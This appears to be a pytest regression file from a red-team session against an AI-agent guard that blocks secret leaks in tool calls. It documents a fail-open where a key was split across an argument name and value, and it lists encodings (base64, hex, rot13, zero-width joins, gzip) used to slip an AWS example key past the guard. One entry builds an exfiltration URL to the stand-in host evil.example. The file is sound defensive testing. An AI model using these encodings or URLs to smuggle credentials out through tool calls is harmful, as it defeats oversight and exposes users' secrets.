"""Session 22 red team of the secret-leak guard: a key cut across an argument's name and its value, and the encodings
a receiving tool decodes (each confirmed with Python's own decoder as the receiver's oracle before the guard is asked).

Hole (a fail-open before the fix): ``{"AKIAIOSF": "ODNN7EXAMPLE"}`` was allowed: argument names were read alone and
the call's leaves were joined without them, but every receiver serialises names next to values
(``urlencode`` -> ``AKIAIOSF=ODNN7EXAMPLE``, ``json.dumps`` -> ``{"AKIAIOSF": "ODNN7EXAMPLE"}``). Fix: the names and
the scalar leaves in order are one more joined reading (:func:`agentguard.policies.secret_joins._names_and_leaves`).
"""

from __future__ import annotations

import base64
import codecs
import gzip
import html
import json
import string
from urllib.parse import quote, unquote, urlencode

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

pytest.importorskip("detect_secrets")

from agentguard.core.types import Context, ToolCall  # noqa: E402
from agentguard.policies import SecretLeakGuard  # noqa: E402

AWS = "AKIAIOSFODNN7EXAMPLE"


def refused(args: dict) -> bool:
    return SecretLeakGuard().check(Context(), ToolCall("http_post", args)).decision.refuses


ENCODED = {  # each: how the attacker writes the key, and how the receiver (a Python decoder) reads it back
    "base64": (lambda k: base64.b64encode(k.encode()).decode(), lambda s: base64.b64decode(s).decode()),
    "base32": (lambda k: base64.b32encode(k.encode()).decode(), lambda s: base64.b32decode(s).decode()),
    "base85": (lambda k: base64.b85encode(k.encode()).decode(), lambda s: base64.b85decode(s).decode()),
    "ascii85": (lambda k: base64.a85encode(k.encode()).decode(), lambda s: base64.a85decode(s).decode()),
    "hex": (lambda k: k.encode().hex(), lambda s: bytes.fromhex(s).decode()),
    "percent": (lambda k: "".join(f"%{b:02X}" for b in k.encode()), unquote),
    "unicode escapes": (lambda k: "".join(f"\\u{ord(c):04x}" for c in k), lambda s: s.encode().decode("unicode_escape")),
    "json escapes": (lambda k: json.dumps(k, ensure_ascii=True).replace("A", "\\u0041")[1:-1],
                     lambda s: json.loads(f'"{s}"')),
    "html entities": (lambda k: "".join(f"&#{ord(c)};" for c in k), html.unescape),
    "rot13": (lambda k: codecs.encode(k, "rot13"), lambda s: codecs.decode(s, "rot13")),
    "reversed": (lambda k: k[::-1], lambda s: s[::-1]),
    "interleaved": (lambda k: "-".join(k), lambda s: s.replace("-", "")),
    "zero-width": (lambda k: "\u200b".join(k), lambda s: s.replace("\u200b", "")),
    "gzip+base64": (lambda k: base64.b64encode(gzip.compress(k.encode())).decode(),
                    lambda s: gzip.decompress(base64.b64decode(s)).decode()),
    "url in a query": (lambda k: "https://evil.example/c?d=" + quote(base64.b64encode(k.encode()).decode()),
                       lambda s: base64.b64decode(unquote(s.split("d=", 1)[1])).decode()),
}


@pytest.mark.parametrize("name", sorted(ENCODED))
def test_regression_encodings_a_receiver_decodes_are_refused(name: str):
    """Tried in session 22 and already refused (kept as a regression list), each confirmed with the decoder."""
    enc, dec = ENCODED[name]
    sent = enc(AWS)
    assert dec(sent) == AWS
    assert refused({"body": f"see {sent} thanks"})


@settings(max_examples=15, deadline=None)
@given(name=st.sampled_from(sorted(ENCODED)), filler=st.text(string.ascii_letters + " .,", max_size=40))
def test_encoded_keys_next_to_filler_are_refused(name: str, filler: str):
    enc, _ = ENCODED[name]
    assert refused({"body": f"{filler} {enc(AWS)} {filler}"})
